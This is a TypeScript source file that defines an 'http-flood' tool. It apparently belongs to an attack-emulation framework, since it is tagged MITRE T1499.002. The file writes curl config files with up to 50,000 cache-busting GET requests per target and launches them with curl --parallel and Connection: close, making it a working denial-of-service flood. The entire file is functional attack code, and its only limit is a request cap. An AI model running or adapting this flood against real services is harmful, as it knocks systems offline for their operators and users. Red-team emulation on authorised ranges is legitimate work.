/** HTTP GET flood with curl, one new connection per request (T1499.002 Service Exhaustion Flood). */
import { join } from 'node:path';
import { z } from 'zod';
import { defineTool } from './tool.js';

/** A curl config with one url/output pair per request (curl applies -o only to the first URL otherwise). */
export function curlFloodConfig(urls: string[]): string {
  return urls.map((u) => `url = "${u}"\noutput = "/dev/null"\n`).join('');
}

export const httpFlood = defineTool({
  name: 'http-flood',
  kind: 'attack',
  category: 'flood',
  technique: 'T1499.002',
  description: 'curl --parallel GET requests with Connection: close, a bounded count per target',
  params: z.strictObject({
    /** Requests per target. */
    count: z.number().int().positive().max(50_000),
    /** Requests in flight at once. */
    parallel: z.number().int().min(1).max(200).default(20),
    port: z.number().int().min(1).max(65535).default(80),
    path: z.string().startsWith('/').default('/'),
  }),
  targetPorts: (p) => [p.port],
  plan: (p, ctx) => {
    const files: Record<string, string> = {};
    const commands = ctx.targets.map((t) => {
      const file = join(ctx.toolDir, `${ctx.stepId}.${t.name}.curl.conf`);
      const sep = p.path.includes('?') ? '&' : '?';
      files[file] = curlFloodConfig(Array.from({ length: p.count }, (_, i) => `http://${t.ip}:${p.port}${p.path}${sep}r=${i}`));
      return {
        argv: ['curl', '-s', '--parallel', '--parallel-max', String(p.parallel), '--max-time', '5', '-H', 'Connection: close', '-K', file],
      };
    });
    return { mode: 'parallel', commands, files };
  },
});
